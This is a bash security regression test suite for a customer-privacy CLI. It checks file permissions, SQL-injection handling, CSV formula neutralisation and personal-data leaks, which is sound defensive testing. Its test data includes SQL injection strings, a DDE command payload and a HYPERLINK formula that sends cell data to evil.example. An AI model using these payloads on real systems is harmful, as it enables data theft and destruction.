#!/bin/bash
# Security regression tests: each fails if its protection is removed.
# SQL metacharacters in every text field, CSV formula injection through
# every exported text field, secret files readable by others refused,
# database files created 0600 whatever the umask (secret files:
# tests/unit/t-secret.c), no personal data in
# diagnostics or the audit log without -v.  (Header injection: the
# fuzz-header corpus in tests/fuzz.t; see SECURITY.md for the rest.)
. "$(dirname "$0")/lib.sh"
export PRIVACY_NOW=2026-11-29T12:00:00Z

umask 000
privacyctl init >/dev/null
privacyctl location add mitte --name "Salon Mitte" >/dev/null

# --- files created 0600 whatever the umask -----------------------------
privacyctl customer import --location mitte "$TOP/examples/salon/customers.csv" >/dev/null
# The -wal and -shm exist while a connection is open: hold one.
lockfifo="$SCRATCH/hold.fifo"
mkfifo "$lockfifo"
sqlite3 "$PRIVACY_DB" <"$lockfifo" >/dev/null 2>&1 &
exec 7>"$lockfifo"
echo "SELECT count(*) FROM customers;" >&7
for i in $(seq 600); do [ -e "$PRIVACY_DB-shm" ] && break; sleep 0.1; done # up to a minute: a loaded machine
for f in "$PRIVACY_DB" "$PRIVACY_DB-wal" "$PRIVACY_DB-shm"; do
	is "$(stat -c %a "$f" 2>&1)" 600 "umask 000: $(basename "$f") is 0600"
done
exec 7>&-
wait
umask 022

# --- SQL metacharacters in every text field ---------------------------
# Each field carries quotes, comment markers, statement separators,
# LIKE wildcards and backslashes; all must be stored and shown byte-exact.
M1="x'); DROP TABLE customers; --"
M2='" OR "1"="1'
M3="%_\\%' OR '1'='1"
M4="Robert'); DELETE FROM audit;--"
/usr/bin/python3 - "$M1" "$M2" "$M3" "$M4" >meta.csv <<'PY'
import csv, sys
m1, m2, m3, m4 = sys.argv[1:5]
w = csv.writer(sys.stdout, lineterminator="\n")
w.writerow(["external_id", "first_name", "last_name", "email", "phone", "street",
            "postal_code", "city", "country", "notes"])
w.writerow(["K-" + m1, m4, "O'Brien; --", "o'brien@example.org", "+49 " + m3, m1,
            "1' OR 1=1", 'Ber"lin', "DE", m2 + " /* */ " + m3])
PY
snapshot s0
run privacyctl customer import --location mitte meta.csv
status 0 "SQL metacharacters: the row is imported"
is "$(sql "SELECT count(*) FROM customers")" "6" "SQL metacharacters: no table dropped, one customer more"
run privacyctl audit verify
like "$(stdout)" '"intact":true' "SQL metacharacters: the audit log is intact"
id=$(sql "SELECT id FROM customers WHERE email = 'o''brien@example.org'")
run privacyctl customer show "$id"
status 0 "SQL metacharacters: customer show"
/usr/bin/python3 - "$out" "$M1" "$M2" "$M3" "$M4" <<'PY'
import json, sys
c = json.load(open(sys.argv[1]))
m1, m2, m3, m4 = sys.argv[2:6]
want = {"external_id": "K-" + m1, "first_name": m4, "last_name": "O'Brien; --",
        "email": "o'brien@example.org", "phone": "+49 " + m3, "street": m1,
        "postal_code": "1' OR 1=1", "city": 'Ber"lin', "notes": m2 + " /* */ " + m3}
bad = {k: (c.get(k), v) for k, v in want.items() if c.get(k) != v}
sys.exit(1 if bad else 0) if not bad else print(bad) or sys.exit(1)
PY
ok $? "SQL metacharacters: every field stored and shown byte-exact"
run privacyctl customer list --email "x' OR '1'='1"
is "$(wc -l <"$out")" "0" "SQL metacharacters: a quote in a filter matches nothing, not everyone"
run privacyctl customer list --email "%@example.de"
is "$(wc -l <"$out")" "0" "SQL metacharacters: LIKE wildcards in a filter are literal"
run privacyctl location add evil --name "$M4"
status 0 "SQL metacharacters: a location name"
is "$(sql "SELECT name FROM locations WHERE slug = 'evil'")" "$M4" "SQL metacharacters: stored as given"

# --- CSV formula injection through every exported text field -----------
F='=HYPERLINK("http://evil.example/?"&A1,"x")'
/usr/bin/python3 - "$F" >formula.csv <<'PY'
import csv, sys
w = csv.writer(sys.stdout, lineterminator="\n")
w.writerow(["external_id", "first_name", "last_name", "email", "phone", "street",
            "postal_code", "city", "country", "notes"])
w.writerow(["=1+1", "+SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "formula@example.org",
            "@SUM(1)", "\tstreet", "\uff1d1", "\uff0b2", "\uff0d3", sys.argv[1]])
PY
run privacyctl customer import --location mitte formula.csv
status 0 "formulas: a row of formulas is imported (they are data)"
fid=$(sql "SELECT id FROM customers WHERE email = 'formula@example.org'")
is "$(sql "SELECT first_name FROM customers WHERE id = $fid")" "+SUM(A1:A9)" "formulas: stored unchanged"
# Every cell of every CSV output: nothing a spreadsheet would run.
no_formula() {
	/usr/bin/python3 - "$1" <<'PY'
import csv, re, sys
bad = []
rows = 0
with open(sys.argv[1], newline="", encoding="utf-8") as f:
    for row in csv.reader(f):
        rows += 1
        for cell in row:
            if re.fullmatch(r"-?[0-9]+", cell):
                continue
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"):
                bad.append(cell)
print(rows, bad)
sys.exit(1 if bad or rows < 2 else 0)
PY
}
run privacyctl customer list -f csv
no_formula "$out" >/dev/null
ok $? "formulas: customer list -f csv neutralises every text cell"
grep -q "'=1+1" "$out" && grep -q "'+SUM(A1:A9)" "$out" && grep -q "'-2+3" "$out"
ok $? "formulas: with a leading quote, the value kept"
run privacyctl customer show "$fid" -f csv
no_formula "$out" >/dev/null
ok $? "formulas: customer show -f csv neutralises every text cell"
for f in external_id first_name last_name phone street postal_code city country notes; do
	v=$(sql "SELECT $f FROM customers WHERE id = $fid")
	/usr/bin/python3 - "$out" "$f" "$v" <<'PY'
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
i = rows[0].index(sys.argv[2])
sys.exit(0 if rows[1][i] == "'" + sys.argv[3] else 1)
PY
	ok $? "formulas: $f neutralised in customer show -f csv"
done

# Secret files readable by others: tests/unit/t-secret.c (pv_read_file).

# --- no personal data in diagnostics or the audit log -------------------
cat >bad.csv <<'CSV'
external_id,first_name,last_name,email,phone,birth_date,notes
K-9001,Zyxwvuta,Qplmokn,zyxwvuta.qplmokn-at-example.org,+49 170 9876543,1999-02-30,Geheimnis Xylophon
CSV
snapshot s2
run privacyctl customer import --location mitte bad.csv
status 65 "personal data: a bad row is exit 65"
like "$(stderr)" "bad.csv:2: (email|birth_date): " "personal data: the message names file, line and field"
unlike "$(stderr)" "Zyxwvuta|Qplmokn|zyxwvuta|9876543|1999-02-30|Xylophon" \
	"personal data: no value of the row in the message"
unchanged s2 "personal data: nothing imported"
run privacyctl -v customer import --location mitte bad.csv
status 65 "personal data: with -v, still exit 65"
# The audit log holds no name, address, phone or note of any customer.
privacyctl customer import --location mitte "$TOP/examples/salon/customers.csv" >/dev/null
leaks=$(sql "SELECT first_name, last_name, email, phone, street, notes FROM customers" | tr '|' '\n' |
	grep -v '^$' | grep -v '^DE$' | while IFS= read -r v; do
		[ ${#v} -ge 4 ] && sql "SELECT count(*) FROM audit WHERE instr(actor || object || ifnull(detail, ''), '$(printf '%s' "$v" | sed "s/'/''/g")') > 0" | grep -qv '^0$' && echo "$v"
	done)
is "$leaks" "" "personal data: none of it in the audit log"

done_testing
